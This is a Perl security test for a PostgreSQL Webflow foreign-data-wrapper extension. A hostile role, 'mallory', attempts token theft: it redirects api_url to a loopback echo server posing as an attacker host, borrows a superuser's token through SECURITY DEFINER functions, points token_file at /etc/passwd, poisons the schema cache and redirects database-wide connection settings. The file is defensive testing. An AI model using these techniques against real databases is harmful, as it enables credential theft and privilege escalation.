# t/082_connection_attack.pl: a hostile role against named connections
# (webflow.connection, foreign servers of the webflow wrapper).
#
# Each attempt is one ok() asserting that the attack FAILS; a failing ok()
# is a BREAK.  The end prints "connection-attack: N attempts, M breaks".
#
# An "echo" HTTP server on loopback stands in for an attacker's host: it
# answers every request with the bearer token it received ({"auth": T}),
# and Get Collection with a field schema of its own, and logs every token.
use strict;
use warnings;
use IPC::Run;
use JSON::PP;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use Time::HiRes qw(time sleep);
use FindBin;
use lib $FindBin::RealBin;
use WebflowTest;

my $JOBS = $WebflowTest::JOBS;
my $dir  = PostgreSQL::Test::Utils::tempdir();
chmod 0755, $dir;

# ---------------------------------------------------------------- echo server
my $echo_py = <<'PY';
import http.server, json, sys, threading
log = open(sys.argv[2], "a", buffering=1)
class H(http.server.BaseHTTPRequestHandler):
    def handle_one(self):
        auth = self.headers.get("Authorization", "")
        tok = auth[7:] if auth.startswith("Bearer ") else auth
        log.write("%s %s %s\n" % (self.command, self.path, tok))
        n = int(self.headers.get("Content-Length") or 0)
        if n: self.rfile.read(n)
        path = self.path.split("?")[0]
        if "/collections/" in path and path.count("/") <= 3:
            body = {"id": path.rsplit("/", 1)[1], "displayName": "x", "slug": "x",
                    "fields": [{"id": "f0000000000000000000001", "slug": "pwned-by-mallory",
                                "displayName": "P", "type": "PlainText",
                                "isRequired": True, "isEditable": True}]}
        elif path.endswith("/sites"):
            body = {"sites": [{"id": tok, "displayName": tok}]}
        else:
            body = {"auth": tok, "path": self.path}
        raw = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)
    do_GET = do_POST = do_PATCH = do_PUT = do_DELETE = handle_one
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
open(sys.argv[1] + ".tmp", "w").write(str(s.server_address[1]))
import os; os.rename(sys.argv[1] + ".tmp", sys.argv[1])
s.serve_forever()
PY
open(my $pf, '>', "$dir/echo.py") or die; print $pf $echo_py; close $pf;
my $echo_log = "$dir/echo.log";
my $echo = IPC::Run::start([ 'python3', "$dir/echo.py", "$dir/echo.port", $echo_log ],
	'<', \undef, '>', "$dir/echo.out", '2>', "$dir/echo.err");
wait_until(sub { -s "$dir/echo.port" }, 20, 0.1) or BAIL_OUT('echo server did not start');
my $ECHO = 'http://127.0.0.1:' . slurp_file("$dir/echo.port") . '/v2';
END { my $rc = $?; eval { $echo->kill_kill } if $echo; $? = $rc; }
sub echo_tokens { return -e $echo_log ? slurp_file($echo_log) : ''; }

# ------------------------------------------------------------------- cluster
my $node = new_node('connattack',
	log_statement     => "'all'",
	log_min_messages  => 'debug5',
	log_error_verbosity => 'verbose');
my $su = $node->safe_psql('postgres', 'SELECT current_user');
my %env = fake_env();
my $FAKE = $env{WEBFLOW_FAKE_URL};

sub ql { my $s = shift; $s =~ s/'/''/g; return "'$s'"; }
sub admin { return $node->safe_psql('postgres', $_[0]); }
my $seen = '';
sub run_as
{
	my ($user, $sql, $db) = @_;
	my ($ret, $out, $err) = $node->psql($db // 'postgres', $sql,
		extra_params => [ '-U', $user ], on_error_stop => 0, timeout => 120);
	$out //= ''; $err //= '';
	$seen .= "$out\n$err\n" if $user eq 'mallory';
	note("[$user] $sql\n=> $out\n$err");
	return ($ret, $out, $err);
}
sub mallory { return run_as('mallory', @_); }

my ($attempts, $breaks) = (0, 0);
my @broken;
sub attempt
{
	my ($name, $held, $why) = @_;
	$attempts++;
	unless ($held) { $breaks++; push @broken, $name; diag("BREAK: $name: $why"); }
	ok($held, $name);
}

my $SU_SECRET     = 'SU-PROD-SECRET-9f1c2b';
my $FILE_SECRET   = 'TEAM-FILE-SECRET-4d7e1a';
my $ALICE_FILE    = 'ALICE-FILE-SECRET-77aa01';
my $PUB_FILE      = 'PUBLIC-FILE-SECRET-55bb02';
my $SHARED_SECRET = 'SHARED-SECRET-31c0de';
for ([ 'team_token', $FILE_SECRET ], [ 'alice_token', $ALICE_FILE ], [ 'pub_token', $PUB_FILE ])
{
	open(my $f, '>', "$dir/$_->[0]") or die; print $f "$_->[1]\n"; close $f;
	chmod 0644, "$dir/$_->[0]";
}

admin(qq{
CREATE ROLE mallory LOGIN;
CREATE ROLE alice LOGIN;
GRANT EXECUTE ON FUNCTION webflow.request(text, text, jsonb, jsonb),
  webflow.get_authorization_info(), webflow.list_sites(), webflow.refresh_schema(text),
  webflow.bind(regclass, text, jsonb), webflow.unbind(regclass, text),
  webflow.verify(regclass), webflow.sync(regclass), webflow.drain(integer)
  TO mallory, alice;
GRANT USAGE ON FOREIGN DATA WRAPPER webflow TO mallory;
CREATE SCHEMA mallory AUTHORIZATION mallory;
-- the superuser's production connection (mallory gets no USAGE on it)
CREATE SERVER prod FOREIGN DATA WRAPPER webflow OPTIONS (api_url '$ECHO');
CREATE USER MAPPING FOR CURRENT_USER SERVER prod OPTIONS (token '$SU_SECRET');
-- a DBA's SECURITY DEFINER helper, written for the default connection
CREATE FUNCTION public.dba_token_info() RETURNS jsonb LANGUAGE sql SECURITY DEFINER
  SET search_path = pg_catalog AS \$\$ SELECT webflow.request('GET', '/token/introspect') \$\$;
GRANT EXECUTE ON FUNCTION public.dba_token_info() TO mallory;
});

# ---------------------------------------------------------------- 1. control
{
	my ($r, $o, $e) = mallory(q{SET webflow.connection = 'prod'; SELECT webflow.request('GET', '/token/introspect');});
	attempt('1a direct use of prod without USAGE is refused',
		$e =~ /permission denied for webflow connection/ && $o !~ /\Q$SU_SECRET\E/, "$o $e");
}

# ------------------------------------ 1b. superuser SECURITY DEFINER function
{
	my $before = echo_tokens();
	my ($r, $o, $e) = mallory(q{SET webflow.connection = 'prod'; SELECT public.dba_token_info();});
	my $sent = substr(echo_tokens(), length $before);
	attempt('1b SET webflow.connection + a superuser SECURITY DEFINER function does not use the superuser\'s mapping',
		$sent !~ /\Q$SU_SECRET\E/ && $o !~ /\Q$SU_SECRET\E/,
		"the function (definer: $su) sent the superuser's prod token for mallory: out=$o sent=$sent");
}

# ------------- 1c. PGOPTIONS / function SET clause of mallory's own making
{
	admin(q{CREATE FUNCTION public.dba_sites() RETURNS bigint LANGUAGE sql SECURITY DEFINER
	  SET search_path = pg_catalog AS $$ SELECT count(*) FROM webflow.list_sites() $$;
	  GRANT EXECUTE ON FUNCTION public.dba_sites() TO mallory;});
	my $before = echo_tokens();
	my ($r, $o, $e) = mallory(q{CREATE FUNCTION mallory.f() RETURNS bigint LANGUAGE sql
	  SET webflow.connection = 'prod' AS $$ SELECT public.dba_sites() $$; SELECT mallory.f();});
	my $sent = substr(echo_tokens(), length $before);
	attempt('1c a function SET clause (webflow.connection = prod) around a superuser SECURITY DEFINER function',
		$sent !~ /\Q$SU_SECRET\E/, "sent=$sent out=$o");
}

# ---------- 2. the extension's own work (bind/verify/sync/drain) as owner
{
	my $before = echo_tokens();
	mallory(qq{CREATE TABLE mallory.jobs (id int PRIMARY KEY, name text NOT NULL);
	  INSERT INTO mallory.jobs VALUES (1, 'one');
	  SET webflow.connection = 'prod';
	  SELECT webflow.bind('mallory.jobs', '$JOBS', '{"live": false}');
	  SELECT webflow.verify('mallory.jobs');
	  SELECT webflow.sync('mallory.jobs');
	  SELECT webflow.drain();
	  SELECT webflow.unbind('mallory.jobs');});
	my $sent = substr(echo_tokens(), length $before);
	attempt('2 bind/verify/sync/drain with webflow.connection = prod never use the owner\'s prod mapping',
		$sent eq '', "sent=$sent");
}

# -------------------- 3. restricted operations (index expression, matview)
{
	my $before = echo_tokens();
	my ($r, $o, $e) = mallory(q{SET webflow.connection = 'prod';
	  CREATE MATERIALIZED VIEW mallory.mv AS SELECT webflow.request('GET', '/token/introspect') AS r;
	  SELECT r FROM mallory.mv;
	  CREATE FUNCTION mallory.wf(int) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT webflow.request('GET', '/token/introspect')::text $$;
	  CREATE TABLE mallory.ix (a int); INSERT INTO mallory.ix VALUES (1);
	  CREATE INDEX ON mallory.ix (mallory.wf(a));
	  REFRESH MATERIALIZED VIEW mallory.mv;});
	admin(q{REFRESH MATERIALIZED VIEW mallory.mv; ANALYZE mallory.ix;});
	my $sent = substr(echo_tokens(), length $before);
	attempt('3 restricted operations choose no named connection (prod never reached)',
		$sent eq '', "sent=$sent");
}

# ----------- 4. token_file harvest by a non-superuser server owner
{
	mallory(qq{CREATE SERVER team FOREIGN DATA WRAPPER webflow OPTIONS (api_url '$FAKE');});
	admin(qq{CREATE USER MAPPING FOR PUBLIC SERVER team OPTIONS (token_file '$dir/team_token');});
	my ($r0, $o0) = mallory(q{SELECT umoptions FROM pg_user_mappings WHERE srvname = 'team';});
	my ($r, $o, $e) = mallory(qq{ALTER SERVER team OPTIONS (SET api_url '$ECHO');
	  SET webflow.connection = 'team'; SELECT webflow.request('GET', '/harvest');});
	attempt('4 a server owner cannot read a superuser-set token_file by moving api_url',
		$o !~ /\Q$FILE_SECRET\E/,
		"pg_user_mappings shows only [$o0], but the redirect returned: $o");
}

# ----- 4b. alice's own-token mapping on mallory's server (postgres_fdw model)
{
	admin(qq{GRANT USAGE ON FOREIGN SERVER team TO alice;
	  CREATE USER MAPPING FOR alice SERVER team OPTIONS (token_file '$dir/alice_token');});
	my $before = echo_tokens();
	run_as('alice', q{SET webflow.connection = 'team'; SELECT count(*) FROM webflow.list_sites();});
	my $sent = substr(echo_tokens(), length $before);
	note("4b (accepted model, not counted): alice's superuser-set token_file went to mallory's api_url: "
		  . ($sent =~ /\Q$ALICE_FILE\E/ ? 'yes' : 'no'));
}

# -------- 5. non-superuser switches a mapping to token_file (validator)
{
	my ($r, $o, $e) = mallory(qq{CREATE USER MAPPING FOR mallory SERVER team OPTIONS (token 'mallory-own');
	  ALTER USER MAPPING FOR mallory SERVER team OPTIONS (DROP token, ADD token_file '/etc/passwd');
	  ALTER USER MAPPING FOR alice SERVER team OPTIONS (SET token_file '/etc/passwd');
	  ALTER USER MAPPING FOR PUBLIC SERVER team OPTIONS (SET token_file '/etc/passwd');
	  SELECT count(*) FROM pg_user_mappings WHERE srvname = 'team' AND umoptions::text LIKE '%passwd%';});
	attempt('5 no mapping can get a token_file from a non-superuser', $o =~ /^0$/m, "$o $e");
}

# ------------------------ 6. schema cache poisoning via refresh_schema
{
	admin(qq{CREATE SCHEMA alice AUTHORIZATION alice;
	  DELETE FROM webflow.collection_owners WHERE collection_id = '$JOBS';});
	# alice publishes her table to the jobs collection (the default connection)
	run_as('alice', qq{CREATE TABLE alice.jobs (id int PRIMARY KEY, name text NOT NULL);
	  SELECT webflow.bind('alice.jobs', '$JOBS', '{"live": false}');
	  INSERT INTO alice.jobs VALUES (1, 'alice-before');});
	wait_until(sub { admin(q{SELECT count(*) FROM webflow.outbox}) eq '0' }, 30, 0.3);
	my $before_ok = grep { ($_->{fieldData}{name} // '') eq 'alice-before' } @{ fake_items($JOBS) };
	my $good = admin(qq{SELECT string_agg(slug, ',' ORDER BY slug) FROM webflow.collection_fields WHERE collection_id = '$JOBS'});
	mallory(qq{CREATE SERVER evil FOREIGN DATA WRAPPER webflow OPTIONS (api_url '$ECHO');
	  CREATE USER MAPPING FOR mallory SERVER evil OPTIONS (token 'mallory-own');
	  SET webflow.connection = 'evil'; SELECT webflow.refresh_schema('$JOBS');});
	my $now = admin(qq{SELECT string_agg(slug, ',' ORDER BY slug) FROM webflow.collection_fields WHERE collection_id = '$JOBS'});
	# what that does to alice's publishing (the worker: default connection, as the owner)
	run_as('alice', q{INSERT INTO alice.jobs VALUES (2, 'alice-after');});
	wait_until(sub { admin(q{SELECT count(*) FROM webflow.outbox WHERE attempts = 0}) eq '0' }, 20, 0.3);
	my $ob = admin(q{SELECT string_agg(row_key || ':' || state || ':' || coalesce(left(last_error, 200), ''), ' | ') FROM webflow.outbox});
	my $published = grep { ($_->{fieldData}{name} // '') eq 'alice-after' } @{ fake_items($JOBS) };
	note("6: alice's row 1 before: published=$before_ok; row 2 after the poisoning: published=$published outbox=[$ob]");
	attempt('6 a role\'s own connection cannot write the shared schema cache the publish pipeline trusts',
		$now !~ /pwned-by-mallory/,
		"webflow.collection_fields for $JOBS was [$good], is now [$now] (served by mallory's host); alice's row 1 published=$before_ok, her next row: published=$published outbox=[$ob]");
	admin(qq{SELECT webflow.refresh_schema('$JOBS');});
	run_as('alice', q{SELECT webflow.unbind('alice.jobs');});
}

# ----------------------- 7. USAGE revoked in the middle of a transaction
{
	admin(qq{CREATE SERVER shared FOREIGN DATA WRAPPER webflow OPTIONS (api_url '$ECHO');
	  CREATE USER MAPPING FOR PUBLIC SERVER shared OPTIONS (token '$SHARED_SECRET');
	  GRANT USAGE ON FOREIGN SERVER shared TO mallory;});
	my $before = echo_tokens();
	my ($out, $err) = ('', '');
	my $h = IPC::Run::start([ 'psql', '-X', '-A', '-t', '-d', $node->connstr('postgres'), '-U', 'mallory',
			'-c', q{SET webflow.connection = 'shared'; BEGIN ISOLATION LEVEL REPEATABLE READ;
			  SELECT webflow.request('GET', '/first'); SELECT pg_sleep(3);
			  SELECT webflow.request('GET', '/second'); COMMIT;
			  SELECT webflow.request('GET', '/third');} ],
		'<', \undef, '>', \$out, '2>', \$err, IPC::Run::timeout(60));
	sleep 1.2;
	admin(q{REVOKE USAGE ON FOREIGN SERVER shared FROM mallory;});
	$h->finish;
	my $sent = substr(echo_tokens(), length $before);
	note("7: a request later in the same transaction after the REVOKE: " . ($sent =~ m{/second} ? 'sent (PostgreSQL sees the REVOKE at the next catalog invalidation, as for tables)' : 'refused'));
	attempt('7 USAGE revoked mid-transaction: the next transaction is refused', $sent !~ m{/third}, "sent=$sent err=$err");
}

# -------------------- 8. token_file cache across roles in one backend
{
	admin(qq{CREATE SERVER files FOREIGN DATA WRAPPER webflow OPTIONS (api_url '$ECHO');
	  CREATE USER MAPPING FOR alice SERVER files OPTIONS (token_file '$dir/alice_token');
	  CREATE USER MAPPING FOR PUBLIC SERVER files OPTIONS (token_file '$dir/pub_token');
	  GRANT USAGE ON FOREIGN SERVER files TO alice, mallory;});
	my $o = admin(q{SET webflow.connection = 'files';
	  SET ROLE alice; SELECT webflow.request('GET', '/a')->>'auth'; RESET ROLE;
	  SET ROLE mallory; SELECT webflow.request('GET', '/m')->>'auth'; RESET ROLE;});
	my @t = split /\n/, $o;
	attempt('8 the one-file token cache never hands alice\'s file token to another role',
		@t == 2 && $t[0] eq $ALICE_FILE && $t[1] eq $PUB_FILE, "got [@t]");
}

# --------- 9. a database owner sets webflow.connection for everybody
{
	admin(q{CREATE DATABASE mdb OWNER mallory;});
	admin_db('mdb', q{CREATE EXTENSION webflow;});
	admin_db('mdb', q{GRANT USAGE ON FOREIGN DATA WRAPPER webflow TO mallory;});
	mallory(q{ALTER DATABASE mdb SET webflow.connection = 'evil';}, 'mdb');
	mallory(qq{CREATE SERVER evil FOREIGN DATA WRAPPER webflow OPTIONS (api_url '$ECHO');
	  CREATE USER MAPPING FOR PUBLIC SERVER evil OPTIONS (token 'mallory-public');}, 'mdb');
	my $before = echo_tokens();
	my $o2 = admin_db('mdb', q{SELECT webflow.request('POST', '/collections/x/items', '{"fieldData": {"name": "payroll"}}')->>'auth';});
	my $sent = substr(echo_tokens(), length $before);
	note("9 (data redirect, no token): the superuser's request in mdb went to mallory's host with token [$o2]; sent=$sent");
	attempt('9 a database owner\'s webflow.connection never sends the superuser\'s or default token',
		$sent !~ /test-token|\Q$SU_SECRET\E/, "sent=$sent");
}
sub admin_db { return $node->safe_psql($_[0], $_[1]); }

# ------------------------ 10. secrets in errors, notices and the server log
{
	attempt('10a mallory saw no secret in any output or error',
		$seen !~ /\Q$ALICE_FILE\E|test-token/, 'see above');
	my $log = slurp_file($node->logfile);
	my @lines = grep { /\Q$SU_SECRET\E|\Q$FILE_SECRET\E|\Q$ALICE_FILE\E|\Q$PUB_FILE\E|\Q$SHARED_SECRET\E|Bearer/ } split /\n/, $log;
	my @bad = grep { !/USER MAPPING/ } @lines;
	note("10b: log lines with a secret that are CREATE/ALTER USER MAPPING statements (PostgreSQL's own log_statement): " . scalar(@lines - @bad));
	attempt('10b no secret in the server log beyond the logged USER MAPPING statements', !@bad, join("\n", @bad));
	my ($r, $o, $e) = mallory(q{SET webflow.connection = 'files';
	  SELECT webflow.request('GET', '/x');});
	note("10c mallory's problem message: $e");
}

diag("connection-attack: $attempts attempts, $breaks breaks" . (@broken ? ' (' . join('; ', @broken) . ')' : ''));
done_testing();
